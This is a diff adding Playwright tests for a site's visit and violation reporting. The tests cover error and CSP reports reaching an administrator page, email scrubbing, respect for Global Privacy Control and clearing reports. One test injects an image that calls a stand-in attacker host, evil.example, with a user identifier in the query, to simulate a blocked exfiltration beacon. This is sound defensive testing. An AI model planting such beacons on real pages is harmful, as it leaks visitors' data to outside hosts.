@@ -1,0 +1,92 @@
+/** What real browsers tell of real visits, as an administrator reads it. */
+
+import type { Page } from "@playwright/test";
+import { expect, LANGUAGES, SITES, test } from "./journey.ts";
+import { press } from "./press.ts";
+import { comeIn } from "./staff.ts";
+
+// In their order: the last ones clear what the first one looks for.
+test.describe.configure({ mode: "default" });
+
+/** The part of /admin/visits under a heading. */
+const partOf = (page: Page, id: "speed" | "reports") =>
+  page.locator("section", { has: page.locator(`#${id}`) });
+
+test("an error, a violation and the quickness of a visit arrive where administrators see them", async ({
+  page,
+  otherBrowser,
+}) => {
+  const visitor = await otherBrowser();
+  // Every visit is measured, not one in four.
+  await visitor.addInitScript(() => {
+    Math.random = () => 0;
+  });
+  await visitor.goto(`${SITES.el}/team`);
+  // The script that tells has been loaded, late, and has taken over.
+  await visitor.waitForFunction(() => Object.hasOwn(window.b4Visit ?? [], "push"));
+  const told = visitor.waitForRequest("**/reports");
+  await visitor.evaluate(() => {
+    setTimeout(() => {
+      throw new Error("somebody else's trouble with maria@people.example");
+    });
+    const image = document.createElement("img");
+    image.src = "https://evil.example/pixel.png?who=maria";
+    document.body.append(image);
+  });
+  await told;
+  // Going on is when a visit is told of.
+  await visitor.goto(`${SITES.el}/terms`);
+
+  await comeIn(page, SITES.en, "administrator", "/admin/visits");
+  const reports = partOf(page, "reports");
+  await expect(async () => {
+    await page.reload();
+    await expect(reports.getByRole("row").filter({ hasText: "trouble" })).toContainText("/team");
+    await expect(reports.getByRole("row").filter({ hasText: "evil.example" })).toContainText(
+      "/team",
+    );
+    await expect(partOf(page, "speed").getByRole("row")).not.toHaveCount(0, { timeout: 100 });
+  }).toPass({ timeout: 60_000 });
+  await expect(reports).not.toContainText("maria");
+  // Heads, all pages, and the kind of page that was opened.
+  expect(await partOf(page, "speed").getByRole("row").count()).toBeGreaterThanOrEqual(3);
+});
+
+test("a browser that asks not to be tracked tells nothing", async ({ page }) => {
+  await page.addInitScript(() => {
+    Math.random = () => 0;
+    Object.defineProperty(navigator, "globalPrivacyControl", { value: true });
+  });
+  const asked: string[] = [];
+  page.on("request", (request) => asked.push(request.url()));
+  await page.goto(`${SITES.en}/team`);
+  await page.goto(`${SITES.en}/terms`);
+  expect(await page.evaluate(() => window.b4Visit)).toBeUndefined();
+  expect(asked.filter((url) => /visit-reports|\/reports$/.test(url))).toEqual([]);
+});
+
+for (const language of LANGUAGES) {
+  test(`an administrator clears what browsers reported, in ${language}`, async ({ page }) => {
+    const site = SITES[language];
+    const violation = {
+      "effective-directive": "font-src",
+      "blocked-uri": "data",
+      "document-uri": site,
+    };
+    // As a page of ours would: nobody but the browser knows the domains.
+    await page.goto(`${site}/terms`);
+    await page.evaluate(
+      async (report) => {
+        await fetch("/reports", { method: "POST", body: JSON.stringify(report) });
+      },
+      { "csp-report": violation },
+    );
+    await comeIn(page, site, "administrator", "/admin/visits");
+    const reports = partOf(page, "reports");
+    await expect(reports.getByRole("row").filter({ hasText: "font-src" })).toBeVisible();
+    await press(reports.locator("summary"));
+    await press(reports.locator("form button[type=submit]"));
+    await expect(page.getByRole("status").first()).toBeVisible();
+    await expect(reports.getByRole("row").filter({ hasText: "font-src" })).toHaveCount(0);
+  });
+}
